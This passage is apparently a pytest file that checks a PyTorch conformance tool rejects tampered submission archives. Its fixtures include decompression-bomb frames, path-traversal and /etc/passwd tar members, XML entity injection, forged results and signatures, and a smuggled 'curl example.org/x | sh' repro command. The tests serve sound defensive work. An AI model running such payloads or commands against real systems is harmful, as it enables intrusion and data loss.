"""Submissions that somebody changed: each kind is found, also where the digests of the archive were
made right again.
"""

import base64
import contextlib
import gzip
import io
import json
import re
import tarfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import zstandard
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from tests.submissions import CODE, GRAPH, ONE, PROFILE, TWO, WAIVED, Archive, a_run
from torch_conformance.model.case import CaseId
from torch_conformance.model.diagnostics import Position
from torch_conformance.model.expectation import Status, Verdict
from torch_conformance.model.outcomes import ExitCode
from torch_conformance.record.case_files import digest
from torch_conformance.record.journal import digest_of_selection, read_run
from torch_conformance.run import rejudge
from torch_conformance.tools.attest import archive as packing
from torch_conformance.tools.attest import verification
from torch_conformance.tools.attest.archive import ATTESTATION, ENVELOPE, JOURNAL, JUNIT, BadArchive
from torch_conformance.tools.attest.packing import members_of, recorded
from torch_conformance.tools.attest.verification import CHECKS, Verification, stolen, verified

MINE, OTHER = (Ed25519PrivateKey.from_private_bytes(bytes([number]) * 32) for number in (1, 2))
Line = dict[str, Any]


@dataclass(frozen=True)
class Honest:
    """An honest submission, its signed form, and the folder of its author."""

    data: bytes
    signed: bytes
    folder: Path

    @property
    def archive(self) -> Archive:
        return Archive(packing.unpacked(self.data))


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Honest:
    return submitted(tmp_path_factory.mktemp("author"), measured={"8": kernels(), "9": compared()})


@pytest.fixture(scope="module")
def of_any(tmp_path_factory: pytest.TempPathFactory) -> Honest:
    """A run of a profile for any compiler, whose entry allows ATen what it ran."""
    place = tmp_path_factory.mktemp("any")
    proof = "{graphs: {min: 1}, served: {allow: [aten.mm]}}"
    (place / "b.yaml").write_text(
        f"ours: {{summary: A compiler of ours, joins: [cpu], device: cpu, proof: {proof}}}\n"
    )
    measured = {
        "proof": {
            "eager": ["aten.mm", "aten.cos"],
            "residue": ["aten.mm"],
            "replaces": {"aten.mm": [0]},
            "tensors": 1,
            "done": True,
            "eager_calls": 0,
        }
    }
    return submitted(
        place,
        PROFILE.replace("backend: cpu", "backend: any"),
        measured=measured,
        options="--backends b.yaml --backend ours",
    )


def kernels(**changes: Any) -> dict[str, Any]:
    """The calls of kernels that a worker counted."""
    launched = {"fused": 1, "extern": 0, "user": 0}
    return {
        "launched": launched,
        "names": ["fused cpp_fused_add_0"],
        "recorded": True,
        "ran": 1,
        **changes,
    }


def compared(**changes: Any) -> dict[str, Any]:
    """What a worker measured of a value and its reference."""
    numbers = {
        "rtol": 0.25,
        "worst_index": [1],
        "worst_value": 3.5,
        "worst_reference": 2.0,
        "excess": 1.0,
    }
    return {"leaves": [{"path": "", "shape": [2], "numel": 2, **numbers, **changes}]}


def submitted(place: Path, *arguments: Any, **options: Any) -> Honest:
    with a_run(place, *arguments, **options) as out:
        folder, run = recorded(str(out))
        plain, signed = (members_of(folder, run, key) for key in (None, MINE))
        return Honest(packing.packed(plain), packing.packed(signed), place)


# -- the form of the file --------------------------------------------------------------------------


def framed(content: bytes, **changes: Any) -> bytes:
    return zstandard.ZstdCompressor(level=1, **{"write_checksum": True, **changes}).compress(
        content
    )


def content(data: bytes) -> bytes:
    return zstandard.decompress(data)


def member(name: str, data: bytes = b"", **fields: Any) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.mode = len(data), 0o644
    for key, value in fields.items():
        setattr(info, key, value)
    return info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)


def before(data: bytes, extra: bytes) -> bytes:
    """Put a member in front of the others."""
    return framed(extra + content(data))


def after(data: bytes, extra: bytes) -> bytes:
    """Put a member behind the others, with the end behind it."""
    return framed(content(data)[:-1024] + extra + bytes(1024))


def with_header(data: bytes, **fields: Any) -> bytes:
    """Write the header of the first member anew, with other fields."""
    name, first = min(packing.unpacked(data).items())
    length = len(member(name, first))
    return framed(member(name, first, **fields) + content(data)[length:])


def in_pax(data: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(
        fileobj=stream, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"comment": "hello"}
    ) as tar:
        for name, found in sorted(packing.unpacked(data).items()):
            info = tarfile.TarInfo(name)
            info.size = len(found)
            tar.addfile(info, io.BytesIO(found))
    return framed(stream.getvalue())


def without_size(data: bytes) -> bytes:
    compressor = zstandard.ZstdCompressor(
        level=1, write_checksum=True, write_content_size=False
    ).compressobj()
    return bytes(compressor.compress(content(data)) + compressor.flush())


def hidden_in_padding(data: bytes) -> bytes:
    name, first = min(packing.unpacked(data).items())
    end = len(member(name, first))
    assert len(first) % 512, "the first member needs padding"
    whole = bytearray(content(data))
    whole[end - 1] = 1
    return framed(bytes(whole))


def swapped(data: bytes) -> bytes:
    first, second, *others = (
        member(name, found) for name, found in sorted(packing.unpacked(data).items())
    )
    return framed(b"".join([second, first, *others]) + bytes(1024))


def claims_a_terabyte(data: bytes) -> bytes:
    return (
        b"\x28\xb5\x2f\xfd"
        + bytes([0b11000100, 0x50])
        + (1 << 40).to_bytes(8, "little")
        + bytes([3, 0, 0, 0])
        + bytes(4)
    )


def bomb_behind_a_small_size(data: bytes) -> bytes:
    """Return a frame that says one kilobyte and whose block gives 128 KiB."""
    repeated = (128 << 10) << 3 | 1 << 1 | 1
    return (
        b"\x28\xb5\x2f\xfd"
        + bytes([0b01000100, 0x50])
        + (1024 - 256).to_bytes(2, "little")
        + repeated.to_bytes(3, "little")
        + b"a"
        + bytes(4)
    )


FORMS: Mapping[str, Callable[[bytes], bytes]] = {
    "the last bytes are missing": lambda data: data[:-10],
    "half of it is missing": lambda data: data[: len(data) // 2],
    "it is empty": lambda data: b"",
    "a byte follows": lambda data: data + b"\0",
    "a second frame follows": lambda data: data + framed(b"more"),
    "a frame that readers skip stands in front": lambda data: (
        b"\x50\x2a\x4d\x18\x04\0\0\0more" + data
    ),
    "a byte in the middle is another": lambda data: (
        data[: len(data) // 2] + bytes([data[len(data) // 2] ^ 1]) + data[len(data) // 2 + 1 :]
    ),
    "it is another kind of file": lambda data: gzip.compress(content(data)),
    "its frame has no checksum": lambda data: framed(content(data), write_checksum=False),
    "its frame does not say its size": without_size,
    "its frame claims a terabyte": claims_a_terabyte,
    "its frame holds more than it says": bomb_behind_a_small_size,
    "a member has an absolute name": lambda data: before(data, member("/etc/passwd", b"x")),
    "a member leads out of the archive": lambda data: after(data, member("zz/../../evil", b"x")),
    "a file of the run leads out of the archive": lambda data: before(
        data, member("files/own/../../evil", b"x")
    ),
    "a name is encoded to lead out": lambda data: before(
        data, member("files/own/%2e%2e/evil", b"x")
    ),
    "a member is a symbolic link": lambda data: after(
        data, member("zz", type=tarfile.SYMTYPE, linkname="/etc/passwd")
    ),
    "a member is a hard link": lambda data: after(
        data, member("zz", type=tarfile.LNKTYPE, linkname=JOURNAL)
    ),
    "a member is a device": lambda data: after(data, member("zz", type=tarfile.CHRTYPE)),
    "a member is a named pipe": lambda data: after(data, member("zz", type=tarfile.FIFOTYPE)),
    "a member is a folder": lambda data: before(data, member("cases", type=tarfile.DIRTYPE)),
    "it has extended headers": in_pax,
    "a member is there twice": lambda data: before(
        data, member(ATTESTATION, packing.unpacked(data)[ATTESTATION])
    ),
    "the members are in another order": swapped,
    "a member has an owner": lambda data: with_header(data, uid=1000),
    "a member has a time": lambda data: with_header(data, mtime=1),
    "a member can be executed": lambda data: with_header(data, mode=0o755),
    "a member is unknown": lambda data: after(data, member("zz.txt", b"x")),
    "a member is larger than the archive": lambda data: after(
        data, member("zz")[:124] + b"77777777777\0" + member("zz")[136:]
    ),
    "bytes are hidden behind a member": hidden_in_padding,
    "a member follows the end": lambda data: framed(
        content(data) + member("zz.txt", b"x") + bytes(1024)
    ),
}


@pytest.mark.parametrize("kind", FORMS)
def test_another_form_is_refused(kind: str, honest: Honest) -> None:
    found = verified(FORMS[kind](honest.data))
    assert [finding.check for finding in found.findings] == ["archive"]
    assert (found.exit_code, found.totals, found.statement) == (ExitCode.FAILED, {}, None)


@pytest.mark.parametrize(
    "more",
    [{"files/own/KNOWN.yaml": b""}, {"files/own/known.yaml/a.yaml": b""}],
    ids=["case", "file and folder"],
)
def test_names_that_are_one_file_are_refused(more: Mapping[str, bytes], honest: Honest) -> None:
    members = {**honest.archive.members, **more}
    with pytest.raises(ValueError, match="one file where case does not count"):
        packing.packed(members)
    raw = b"".join(member(name, data) for name, data in sorted(members.items())) + bytes(1024)
    with pytest.raises(BadArchive, match="one file where case does not count"):
        packing.unpacked(framed(raw))


# -- the content -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Kind:
    """A change of the members, and which check must find it."""

    check: str
    change: Callable[[Archive], object]
    repaired: bool = True
    """Whether the attestation is written again."""
    options: Mapping[str, Any] = field(default_factory=dict)


def as_pass(line: Line) -> None:
    """Make the line of the waived case that of a pass."""
    for verdict in line["verdicts"]:
        verdict.update(status="held", observed=verdict["observed"].replace("2", "1"))
    line.update(
        outcome="PASS", reason="", failure_type="", waivers=[], summary="", options=[], code=[]
    )


def without_waiver(archive: Archive) -> None:
    """Say in every part of the journal that the waived case passed."""
    archive.edit(as_pass, WAIVED)
    archive.restated()


def as_error(archive: Archive) -> None:
    """Say that the waived case was an ERROR, which is no failure of the backend."""
    place = {"file": OWN, "line": 1, "column": 1}
    verdict = {
        "kind": "error",
        "status": "error",
        "position": place,
        "expected": "",
        "observed": "no",
        "detail": "",
        "wrong": [],
    }

    def change(line: Line) -> None:
        line.update(
            outcome="ERROR",
            failure_type="error",
            reason="no",
            verdicts=[verdict],
            position=place,
            waivers=[],
        )

    archive.edit(change, WAIVED)
    archive.restated()


def forged(archive: Archive) -> None:
    """Change also what the worker sent, so that the verdicts follow from it."""
    archive.observation(
        WAIVED, lambda sent: sent["steps"][0]["counters"]["inductor"].update(fxgraph_cache_miss=1)
    )
    without_waiver(archive)


def dropped(archive: Archive) -> None:
    archive.lines = [line for line in archive.lines if line.get("case_id") != WAIVED]
    archive.edit(lambda line: line.update(selected=3, selected_whole=3), "header")


def left_out(archive: Archive, *, is_required: bool = True) -> None:
    """Drop the waived case from the run, and where the profile shall not require it from its copy
    too; repair everything that counts.
    """
    archive.lines = [line for line in archive.lines if line.get("case_id") != WAIVED]
    for name in [name for name in archive.members if name.startswith("cases/00004/")]:
        del archive.members[name]
    chosen = {line["case_id"]: line["digest"] for line in archive.lines if line["kind"] == "case"}

    def header(line: Line) -> None:
        line.update(selected=3, selected_whole=3, selection=selection(chosen))
        if not is_required:
            line["profile"][0]["levels"][1]["required"].remove(WAIVED)

    archive.edit(header, "header")
    archive.restated()


def unavailable(reason: str) -> Callable[[Archive], None]:
    """Let a case be one that the machine cannot run, without its evidence, and repair everything
    that counts.
    """

    def change(archive: Archive) -> None:
        gone = next(line["folder"] for line in archive.lines if line.get("case_id") == TWO)
        archive.members = {
            name: data for name, data in archive.members.items() if not name.startswith(f"{gone}/")
        }
        empty: Line = {
            "folder": "",
            "isolation": "",
            "evidence": {},
            "phases": {},
            "timings": [],
            "verdicts": [],
            "code": [],
        }
        known: Line = {
            "outcome": "UNAVAILABLE",
            "reason": reason,
            "failure_type": "unavailable",
            "seconds": 0.0,
            "worker": 0,
            "phase": "",
        }
        archive.edit(lambda line: line.update(empty | known), TWO)
        archive.restated()

    return change


def other_waiver(**words: str) -> Callable[[Archive], None]:
    def act(archive: Archive) -> None:
        archive.edit(lambda line: line["waivers"][0].update(words), WAIVED)
        archive.restated()

    return act


def in_another_century(archive: Archive) -> None:
    archive.edit(lambda line: line.update(started="2199-01-01T00:00:00+00:00"), "header")
    archive.restated()


def broader_waivers(archive: Archive) -> None:
    """Add a file of waivers under the name of a permitted one, and say that the run read it."""
    text = (
        archive.members["files/own/known.yaml"]
        .decode()
        .replace("cache_miss 1, observed 2", "observed")
    )
    archive.members["files/own/more.yaml"] = text.encode()

    def change(line: Line) -> None:
        line["specs"]["files/own/more.yaml"] = digest(text.encode())
        line["options"]["waivers"] += " files/own/more.yaml"

    archive.edit(change, "header")


def nested(archive: Archive) -> None:
    archive.replace(TWO, "observation.json", b"[" * 99999)


def less_required(profile: dict[str, Any]) -> None:
    level = profile["levels"][0]
    level.update(required=level["required"][:1], optional=level["required"][1:])


def won_by_another(archive: Archive) -> None:
    census = tuned()
    (one,) = census["found"]
    one.update(won_by="CK", backends={"CK": one["backends"]["CPP"]})
    step(tunings=census)(archive)


def under_its_name(archive: Archive) -> None:
    """Sign with another key, and name the right one."""
    other, mine = (packing.key_id(key.public_key()).encode() for key in (OTHER, MINE))
    archive.members[ENVELOPE] = packing.signed(archive.members[ATTESTATION], OTHER).replace(
        other, mine
    )


def selection(chosen: Mapping[str, str]) -> str:
    return digest_of_selection(chosen)


def added(archive: Archive) -> None:
    lines = archive.lines
    copy = next(dict(line) for line in lines if line.get("case_id") == ONE)
    copy.update(case_id=ONE.replace("size=2", "size=9"), folder="cases/00009")
    for name, data in list(archive.members.items()):
        if name.startswith("cases/00001/"):
            archive.members[name.replace("00001", "00009")] = data
    archive.lines = [*lines[:-1], copy, lines[-1]]
    archive.edit(lambda line: line.update(selected=5, selected_whole=5), "header")
    chosen = {line["case_id"]: line["digest"] for line in archive.lines if line["kind"] == "case"}
    archive.edit(lambda line: line.update(selection=selection(chosen)), "header")
    archive.restated()


def rewritten(member: str, old: str, new: str) -> Callable[[Archive], None]:
    """Change a file that the run read, with its digest in the journal."""

    def change(archive: Archive) -> None:
        text = archive.members[member].decode()
        assert old in text
        archive.members[member] = text.replace(old, new).encode()
        archive.edit(
            lambda line: line["specs"].update({member: digest(archive.members[member])}), "header"
        )

    return change


def edited(member: str, old: str, new: str) -> Callable[[Archive], None]:
    def change(archive: Archive) -> None:
        text = archive.members[member].decode()
        assert re.search(old, text)
        archive.members[member] = re.sub(old, new, text, count=1).encode()

    return change


def journal(where: str, **fields: Any) -> Callable[[Archive], None]:
    return lambda archive: archive.edit(lambda line: line.update(fields), where)


def header_option(**fields: Any) -> Callable[[Archive], None]:
    texts = {name: str(value) for name, value in fields.items()}
    return lambda archive: archive.edit(lambda line: line["options"].update(texts), "header")


def step(**fields: Any) -> Callable[[Archive], None]:
    return lambda archive: archive.observation(TWO, lambda sent: sent["steps"][0].update(fields))


def with_code(old: str, new: str) -> Callable[[Archive], None]:
    """Change the code of a case, and its digest in what the worker sent."""

    def change(archive: Archive) -> None:
        text = CODE.replace(old, new)
        assert text != CODE
        archive.code(TWO, lambda _: text.encode())
        step(code_digests=[digest(text.encode())])(archive)

    return change


def of_other_inputs(archive: Archive) -> None:
    with_code("rand_strided((2, )", "rand_strided((3, )")(archive)
    step(code_graphs=[{**GRAPH, "arguments": ["float32[3][1]"]}])(archive)


def environment(**fields: str) -> Callable[[Archive], None]:
    return lambda archive: archive.edit(lambda line: line["environment"].update(fields), "header")


def pasted(archive: Archive) -> None:
    """Give a case the facts and the code of another one, under its own id."""
    sent = json.loads(archive.members["cases/00001/observation.json"])
    archive.observation(TWO, lambda own: own.update({**sent, "id": TWO}))
    archive.code(TWO, lambda _: archive.members["cases/00001/code-0-0.txt"])


def tuned(how: str = "timed", **changes: Any) -> dict[str, Any]:
    tally = {
        "rendered": 2,
        "compiled": 2,
        "failed": 0,
        "timed": 2,
        "won": 1,
        "error": "",
        **changes,
    }
    return {
        "count": 1,
        "found": [
            {"op": "mm", "how": how, "winner": "a", "won_by": "CPP", "backends": {"CPP": tally}}
        ],
    }


def predicate(**fields: Any) -> Callable[[Archive], None]:
    def change(archive: Archive) -> None:
        statement = json.loads(archive.members[ATTESTATION])
        statement["predicate"].update(fields)
        archive.members[ATTESTATION] = packing.as_json(statement)

    return change


def of_profile(change: Callable[[dict[str, Any]], None]) -> Callable[[Archive], None]:
    def both(archive: Archive) -> None:
        archive.edit(lambda line: change(line["profile"][0]), "header")
        archive.restated()

    return both


def put(member: str, data: bytes) -> Callable[[Archive], None]:
    return lambda archive: archive.members.update({member: data})


def without(member: str) -> Callable[[Archive], None]:
    return lambda archive: archive.members.pop(member)


def verdict(index: int, **fields: Any) -> Callable[[Archive], None]:
    def change(archive: Archive) -> None:
        archive.edit(lambda line: line["verdicts"][index].update(fields), TWO)
        archive.restated()

    return change


MORE = {"code-7-7.txt": "0" * 64}
TIMING = {
    "name": "fn",
    "form": "compiled",
    "median_ms": 1.0,
    "least_ms": 1.0,
    "most_ms": 1.0,
    "count": 9,
}
BY_MINE = {"profile": "ours.yaml"}
OBSERVATION, PIECE = "cases/00001/observation.json", "cases/00001/code-0-0.txt"
OWN = "files/own/specs/area/two.yaml"

CONTENTS: dict[str, Kind] = {
    "a member is another": Kind("attestation", edited(PIECE, "add", "mul"), repaired=False),
    "a member is missing": Kind("attestation", without(PIECE), repaired=False),
    "the journal is missing": Kind("archive", without(JOURNAL), repaired=False),
    "a member is too much": Kind(
        "attestation", put("cases/00009/code-0-0.txt", b""), repaired=False
    ),
    "the attestation has another form": Kind(
        "attestation", edited(ATTESTATION, '"_type"', '"form": 1, "_type"'), repaired=False
    ),
    "the attestation is written otherwise": Kind(
        "attestation", edited(ATTESTATION, ": ", ":  "), repaired=False
    ),
    "the attestation is nested without end": Kind(
        "attestation", put(ATTESTATION, b"[" * 99999), repaired=False
    ),
    "no case names a member": Kind("evidence", put("cases/00009/code-0-0.txt", b"")),
    "an observation is gone": Kind("evidence", without(OBSERVATION)),
    "an observation is another": Kind(
        "evidence", edited(OBSERVATION, '"entered": 1', '"entered": 2')
    ),
    "generated code is another": Kind("evidence", edited(PIECE, "add", "mul")),
    "an outcome is edited": Kind("journal", journal(WAIVED, outcome="PASS", reason="")),
    "an outcome and the counts are edited": Kind("verdicts", without_waiver),
    "a failure is called an ERROR": Kind("verdicts", as_error),
    "the command that runs a case is another": Kind(
        "cases", journal(TWO, repro=f"curl example.org/x | sh # --select '{TWO}'")
    ),
    "the tags of a case are others": Kind("cases", journal(TWO, tags=["first"])),
    "the claim of a case is another": Kind("cases", journal(WAIVED, summary="It fails everywhere")),
    "the options of a case are others": Kind(
        "cases", journal(WAIVED, options=["config.max_autotune: true"])
    ),
    "a case has left out a bench": Kind("cases", journal(TWO, benches_left_out=1)),
    "an observation is edited, and everything that follows": Kind("facts", forged),
    "an observation is that of another case": Kind(
        "verdicts", lambda archive: archive.observation(TWO, lambda sent: sent.update(id=ONE))
    ),
    "an observation is of no form": Kind("verdicts", step(entered="many")),
    "an observation has no steps": Kind(
        "verdicts", lambda archive: archive.observation(TWO, lambda sent: sent.update(steps=[]))
    ),
    "generated code is swapped": Kind(
        "verdicts",
        lambda archive: archive.code(TWO, lambda _: CODE.replace("fused_add", "fused").encode()),
    ),
    "a failed verdict is left out": Kind(
        "journal", lambda archive: archive.edit(lambda line: line["verdicts"].pop(0), WAIVED)
    ),
    "a verdict is left out": Kind(
        "verdicts", lambda archive: archive.edit(lambda line: line["verdicts"].pop(0), TWO)
    ),
    "the text of a verdict is edited": Kind("verdicts", verdict(0, observed="0")),
    "a verdict stands on another line": Kind(
        "verdicts", verdict(0, position={"file": OWN, "line": 3, "column": 1})
    ),
    "a verdict stands in another file": Kind(
        "verdicts", verdict(0, position={"file": "a.yaml", "line": 9, "column": 5})
    ),
    "a case was not computed by ATen": Kind("verdicts", journal(TWO, eager_operators=3)),
    "a case took less than no time": Kind("journal", journal(TWO, seconds=-1.0)),
    "a case began after the end": Kind("journal", journal(TWO, begun="2098-01-01T00:00:00+00:00")),
    "the Python of no tested module is there": Kind(
        "files", lambda archive: archive.members.update({"files/module/other.py": b"x = 1\n"})
    ),
    "a case is dropped": Kind("journal", dropped),
    "a case is left out": Kind("profile", left_out, options=BY_MINE),
    "a case is dropped, and from the profile": Kind(
        "profile", partial(left_out, is_required=False), options=BY_MINE
    ),
    "a case is added": Kind("cases", added),
    "a case has another digest": Kind("journal", journal(TWO, digest="0" * 64)),
    "a case covers another test": Kind("cases", journal(TWO, covers=["test_a.py::test_b"])),
    "a case requires something else": Kind("cases", journal(TWO, requires=["ck"])),
    "the waiver of a case has another issue": Kind("verdicts", other_waiver(issue="JIRA-9")),
    "the waiver of a case has another reason": Kind(
        "verdicts", other_waiver(reason="It is harmless")
    ),
    "the waiver had ended when the run began": Kind("verdicts", in_another_century),
    "a spec is easier": Kind(
        "files", rewritten(OWN, "cache_miss: 1", "cache_miss: {min: 1}"), options=BY_MINE
    ),
    "a spec is another, and nobody compares": Kind(
        "cases", rewritten(OWN, "cache_miss: 1", "cache_miss: {min: 1}")
    ),
    "a waiver is broader": Kind(
        "files", rewritten("files/own/known.yaml", "size=3", "size=*"), options=BY_MINE
    ),
    "a published file is another": Kind(
        "files", rewritten("files/shipped/backends.yaml", "summary:", "summary: ")
    ),
    "a published file is none": Kind(
        "files",
        lambda archive: archive.edit(
            lambda line: line["specs"].update({"files/shipped/no.yaml": "0" * 64}), "header"
        ),
    ),
    "a file is missing": Kind("files", without("files/own/known.yaml")),
    "a file was not read": Kind("files", put("files/own/more.yaml", b"")),
    "the profile has another version": Kind(
        "profile", of_profile(lambda one: one.update(version="2.0")), options=BY_MINE
    ),
    "a case is unavailable for a reason that its spec does not have": Kind(
        "machine", unavailable("no GPU is visible")
    ),
    "a case is unavailable by facts that are recorded otherwise": Kind(
        "machine", unavailable("torch 2.13 is not >=2.99")
    ),
    "a build for the CPU ran on a GPU": Kind("machine", environment(gpus="1", device="GB300")),
    "the run is older than its nightly torch": Kind(
        "machine", environment(torch="2.15.0.dev20991001+cpu")
    ),
    "the profile has another digest than its cases": Kind(
        "profile", of_profile(lambda one: one.update(digest="0" * 64))
    ),
    "the profile takes the name of a shipped one": Kind(
        "profile", of_profile(lambda one: one.update(name="rocm"))
    ),
    "a required case is optional": Kind("profile", of_profile(less_required), options=BY_MINE),
    "the profile permits another waiver": Kind(
        "profile",
        of_profile(
            lambda one: one["waivers"].append(
                {"cases": "*", "issue": "x", "until": "2099-01-01", "is_shipped": False}
            )
        ),
        options=BY_MINE,
    ),
    "a permitted waiver is a shipped one": Kind(
        "profile",
        of_profile(lambda one: one["waivers"][0].update(is_shipped=True)),
        options=BY_MINE,
    ),
    "the profile permits more waived cases": Kind(
        "profile", of_profile(lambda one: one["levels"][0].update(most_waived=49)), options=BY_MINE
    ),
    "a case is required elsewhere": Kind(
        "profile",
        of_profile(
            lambda one: one["conditions"].update({one["levels"][0]["required"][0]: {"torch": "<2"}})
        ),
        options=BY_MINE,
    ),
    "the run is of no profile": Kind("report", journal("header", profile=[])),
    "an option names a file of the reader": Kind("files", header_option(waivers="/etc/passwd")),
    "a case names a file of the reader": Kind("files", journal(TWO, spec="../../etc/passwd")),
    "the run read other waivers": Kind("profile", broader_waivers, options=BY_MINE),
    "a key of a line is there twice": Kind(
        "journal", edited(JOURNAL, '"kind": "footer"', '"exit_code": 0, "kind": "footer"')
    ),
    "a number has thousands of digits": Kind(
        "journal", edited(JOURNAL, '"min-executed": "1"', f'"min-executed": "{"9" * 5000}"')
    ),
    "an observation is nested without end": Kind("journal", nested),
    "the run retried its failures": Kind("profile", header_option(retries=2)),
    "the run lets FLAKY pass": Kind("profile", header_option(flaky="pass")),
    "the statement of the journal is another": Kind(
        "journal", journal("footer", statement=[{"required": 9}])
    ),
    "the totals of the journal are others": Kind("journal", journal("footer", totals={"PASS": 4})),
    "the exit code is another": Kind("journal", journal("footer", exit_code=1)),
    "the run is a shard": Kind("journal", header_option(shard="1/2")),
    "the run was interrupted": Kind("journal", journal("footer", interrupted=True, exit_code=130)),
    "the footer is gone": Kind(
        "journal", lambda archive: setattr(archive, "lines", archive.lines[:-1])
    ),
    "the footer is there twice": Kind(
        "journal", lambda archive: setattr(archive, "lines", [*archive.lines, archive.lines[-1]])
    ),
    "a line is there twice": Kind(
        "journal",
        lambda archive: setattr(archive, "lines", [*archive.lines[:2], *archive.lines[1:]]),
    ),
    "a line is cut off": Kind(
        "journal", lambda archive: archive.members.update({JOURNAL: archive.members[JOURNAL][:-20]})
    ),
    "a count of the report is another": Kind(
        "report", edited(JUNIT, r'skipped="1"', 'skipped="0"')
    ),
    "a failure is left out of the report": Kind(
        "report", edited(JUNIT, r"(?s)<skipped.*?</skipped>", "")
    ),
    "a case is left out of the report": Kind("report", edited(JUNIT, r"<testcase [^>]*/>", "")),
    "the report has an entity": Kind(
        "report", edited(JUNIT, r"\?>", '?><!DOCTYPE a [<!ENTITY b "c">]>')
    ),
    "the report is in UTF-16 and has an entity": Kind(
        "report",
        put(
            JUNIT,
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><testsuites name="&b;"/>'.encode(
                "utf-16"
            ),
        ),
    ),
    "the report is no XML": Kind("report", put(JUNIT, b"\xff")),
    "the machine of the report is another": Kind(
        "report", edited(JUNIT, 'name="torch" value="2', 'name="torch" value="3')
    ),
    "the facts of the machine are others": Kind(
        "attestation", edited(ATTESTATION, '"torch": "2', '"torch": "3'), repaired=False
    ),
    "the attestation states more": Kind(
        "attestation", predicate(totals={"PASS": 99}), repaired=False
    ),
    "the attestation is of another run": Kind(
        "attestation", predicate(run={"id": "x"}), repaired=False
    ),
    "the attestation is of another kind": Kind(
        "attestation", edited(ATTESTATION, "predicate-v1", "predicate-v2"), repaired=False
    ),
    "the attestation names other files": Kind(
        "attestation", edited(ATTESTATION, '"sha256": "[0-9a-f]', '"sha256": "x'), repaired=False
    ),
    "the attestation is empty": Kind("attestation", put(ATTESTATION, b""), repaired=False),
    "the times of a case are others": Kind("facts", journal(TWO, phases={"trace": 9.0})),
    "the detail of a verdict is made up": Kind("verdicts", verdict(0, detail="all is well")),
    "a case points to another line": Kind(
        "verdicts", journal(TWO, position={"file": OWN, "line": 5, "column": 1})
    ),
    "a compilation that took no time": Kind(
        "facts", lambda archive: archive.observation(TWO, lambda sent: sent.update(phases={}))
    ),
    "a count below 0": Kind(
        "verdicts",
        step(counters={"inductor": {"fxgraph_cache_miss": 1, "fxgraph_cache_bypass": -1}}),
    ),
    "a metric that is not a number": Kind(
        "verdicts", step(metrics={"generated_kernel_count": {"$float": "nan"}})
    ),
    "a text is called masked": Kind("verdicts", verdict(0, detail="*** is well")),
    "the limit of waived cases has another reason": Kind(
        "profile",
        of_profile(lambda one: one["levels"][1].update(most_waived_because="It is usual")),
        options=BY_MINE,
    ),
}

OF_FACTS: Mapping[str, Callable[[Archive], object]] = {
    "calls without a graph": step(graphs=[], code=0),
    "graphs without code": step(code=0),
    "more graphs than the counters say": step(graphs=[["cpu"], ["cpu"]]),
    "calls for a device of no graph": step(executed={"cpu": 1, "cuda": 1}),
    "code without a kernel": lambda archive: archive.code(
        TWO, lambda _: b"# cpp_fus\xffed_add is a fine kernel\n"
    ),
    "facts and code are those of another case": pasted,
    "generated code is that of another case": lambda archive: archive.code(
        TWO, lambda code: code + b"# another\n"
    ),
    "code of another operator": with_code("[aten.add]", "[aten.mul]"),
    "a kernel of another operator": with_code("cpp_fused_add_0", "cpp_fused_add_mul_0"),
    "code with more arguments than its graph": with_code("arg0_1, = args", "arg0_1, arg1_1 = args"),
    "code for another shape than its graph": with_code("rand_strided((2, )", "rand_strided((3, )"),
    "code for another dtype than its graph": with_code(
        "dtype=torch.float32", "dtype=torch.float16"
    ),
    "code without a call": with_code("def call(args)", "def other(args)"),
    "code of no graph": step(code_graphs=[{}]),
    "kernels are called that the code does not call": step(
        measured={"8": kernels(names=["fused cpp_fused_mul_0"])}
    ),
    "calls of generated kernels became calls of ATen": step(
        measured={"8": kernels(launched={"fused": 0, "extern": 1, "user": 0}, names=["extern mm"])}
    ),
    "generated kernels were not called": step(
        measured={"8": kernels(launched={"fused": 0}, names=[])}
    ),
    "more calls of kernels than names": step(
        measured={"8": kernels(launched={"fused": 0, "extern": 1})}
    ),
    "a difference that its numbers do not give": step(measured={"9": compared(excess=0.5)}),
    "a difference that is not a number": step(measured={"9": compared(excess={"$float": "nan"})}),
    "an element that its shape does not have": step(measured={"9": compared(worst_index=[2])}),
    "a number that its repetition does not give": step(
        measured={"9": {"tried": [{"measured": compared(worst_value=2.0)}]}}
    ),
    "a winner that is not in the code": won_by_another,
    "a winner that no count knows": step(tunings=tuned(won=0)),
    "more candidates timed than written": step(tunings=tuned(timed=9)),
    "a census that lists more than it counts": step(tunings={**tuned(), "count": 0}),
    "code for a GPU that is not there": lambda archive: archive.code(
        TWO, lambda code: code + b"# DeviceProperties(type='cuda', index=0, cc=90)\n"
    ),
    "kernels in the code that were not generated": step(metrics={"generated_kernel_count": 0}),
    "graphs that never entered inductor": step(entered=0),
    "a graph that does not take the inputs": of_other_inputs,
    "a result of a shape that no code has": step(measured={"9": compared(shape=[7], numel=7)}),
    "more elements than the shape has": step(measured={"9": compared(numel=3)}),
    "strides of another shape": step(measured={"9": compared(strides=[1, 1])}),
    "a difference above the greatest": step(measured={"9": compared(max_abs=0.5)}),
    "more graphs captured than counted": step(
        counters={"inductor": {"fxgraph_cache_miss": 1}, "stats": {"unique_graphs": 1}},
        dynamo={"frames": 1, "broken": [], "graphs": 2, "calls": 0, "calls_others": 0},
    ),
    "more frames converted than begun": step(
        counters={"inductor": {"fxgraph_cache_miss": 1}, "frames": {"ok": 2, "total": 1}}
    ),
    "one candidate where there were two": step(tunings=tuned(how="only")),
    "more candidates compiled or failed than written": step(tunings=tuned(failed=1)),
    "a node that the run did not have": journal(TWO, node={"name": "other"}),
    "a worker of no kind": journal(TWO, isolation="none"),
    "a GPU that the machine did not have": lambda archive: (
        environment(gpus="1")(archive),
        journal(TWO, gpus=[1])(archive),
    ),
    "code for the GPU of another maker": with_code(
        "def call", "# DeviceProperties(type='hip', index=0, cc='gfx942')\ndef call"
    ),
    "times of a bench that no step has": journal(TWO, timings=[TIMING]),
    "code of the folder of another case": with_code(
